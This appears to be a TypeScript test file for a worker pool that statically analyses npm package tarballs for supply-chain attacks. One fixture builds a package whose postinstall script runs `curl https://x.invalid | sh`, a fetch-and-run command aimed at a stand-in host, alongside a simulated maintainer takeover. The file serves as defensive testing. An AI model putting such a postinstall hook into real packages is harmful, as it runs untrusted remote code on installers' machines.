import { strict as assert } from 'node:assert';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { analyzeStatic } from './analyze-static.js';
import { createStaticPool } from './static-pool.js';
import { makeTarball, packageJson } from './test-support/make-tarball.js';
import { BENIGN, MALICIOUS, NOW } from './test-support/scenarios.js';

const SCENARIOS = [...BENIGN, ...MALICIOUS];

const dirs: string[] = [];
after(async () => {
  for (const dir of dirs) await rm(dir, { recursive: true, force: true });
});

test('the pool answers exactly what analyzeStatic answers on this thread, for every scenario', async () => {
  const pool = createStaticPool({ workers: 2, perWorker: 2 });
  try {
    const inputs = await Promise.all(
      SCENARIOS.map(async (s) => ({
        name: s.name,
        version: s.version,
        tarball: await makeTarball(s.files),
        packument: s.packument,
        now: NOW,
      })),
    );
    const pooled = await Promise.all(inputs.map((input) => pool.analyze(input)));
    for (const [i, input] of inputs.entries()) {
      assert.deepEqual(pooled[i]?.report, await analyzeStatic(input), SCENARIOS[i]?.name);
      assert.equal(pooled[i]?.tree, undefined, 'nothing is left on disk without a directory');
    }
  } finally {
    await pool.close();
  }
});

test('the worker is sent only what the analysis reads of a long packument, and answers the same', async () => {
  const pool = createStaticPool({ workers: 1 });
  try {
    const versions: Record<string, unknown> = {};
    const time: Record<string, string> = { created: '2020-01-01T00:00:00.000Z' };
    for (let minor = 0; minor < 60; minor++) {
      const v = `1.${minor}.0`;
      versions[v] = {
        name: 'long-lib',
        version: v,
        maintainers: [{ name: minor < 40 ? 'alice' : 'mallory' }],
        _npmUser: { name: minor < 40 ? 'alice' : 'mallory' },
        ...(minor === 40 ? { scripts: { postinstall: 'node setup.js' } } : {}),
        dist: minor === 41 ? { attestations: { url: 'https://registry.example/att' } } : {},
      };
      time[v] = new Date(Date.UTC(2020, 0, 2 + minor)).toISOString();
    }
    versions['2.0.0-beta.1'] = 'not a document';
    const tarball = await makeTarball({
      'package.json': packageJson({
        name: 'long-lib',
        version: '1.41.0',
        scripts: { postinstall: 'node setup.js' },
      }),
      'setup.js': "require('child_process').execSync('curl https://x.invalid | sh');\n",
    });
    const input = {
      name: 'long-lib',
      version: '1.41.0',
      tarball,
      packument: { name: 'long-lib', versions, time },
      now: NOW,
    };
    const direct = await analyzeStatic(input);
    assert.equal(direct.metadata.previousVersion, '1.40.0');
    assert.equal(direct.metadata.versionCount, 60);
    assert.deepEqual((await pool.analyze(input)).report, direct);
  } finally {
    await pool.close();
  }
});

test('given a directory, npm’s files are left there, listed, for the sandbox to run', async () => {
  const pool = createStaticPool({ workers: 1 });
  const dir = await mkdtemp(join(tmpdir(), 'sr-pool-'));
  dirs.push(dir);
  try {
    const tarball = await makeTarball({
      'package.json': packageJson({ name: 'kept', version: '1.0.0', main: 'lib/index.js' }),
      'lib/index.js': 'module.exports = 42;\n',
    });
    const { report, tree } = await pool.analyze(
      { name: 'kept', version: '1.0.0', tarball, packument: {} },
      dir,
    );
    assert.equal(report.extraction.complete, true);
    assert.deepEqual(tree?.files.sort(), ['lib/index.js', 'package.json']);
    assert.equal(tree?.dir, dir);
    assert.equal(await readFile(join(dir, 'lib/index.js'), 'utf8'), 'module.exports = 42;\n');
  } finally {
    await pool.close();
  }
});

test('a worker that runs out of memory fails its analysis (never a report), and the next one gets a fresh worker', async () => {
  const pool = createStaticPool({ workers: 1, perWorker: 1, heapMb: 16, youngMb: 4 });
  try {
    // A package.json of half a million small objects: parsed, far more than a 16 MiB heap holds.
    const items = Array.from(
      { length: 500_000 },
      (_, i) => `{"a":"${((i * 2654435761) % 2 ** 32).toString(16)}"}`,
    );
    const huge = await makeTarball({
      'package.json': `{"name":"huge","version":"1.0.0","x":[${items.join(',')}]}`,
    });
    await assert.rejects(
      pool.analyze({ name: 'huge', version: '1.0.0', tarball: huge, packument: {} }),
      /static analysis worker/,
    );
    const small = await makeTarball({ 'package.json': packageJson({ name: 'small', version: '1.0.0' }) });
    const { report } = await pool.analyze({ name: 'small', version: '1.0.0', tarball: small, packument: {} });
    assert.equal(report.manifest.found, true);
  } finally {
    await pool.close();
  }
});

test('a closed pool refuses work', async () => {
  const pool = createStaticPool({ workers: 1 });
  await pool.close();
  await assert.rejects(
    pool.analyze({ name: 'x', version: '1.0.0', tarball: Buffer.alloc(0), packument: {} }),
    /closed/,
  );
});
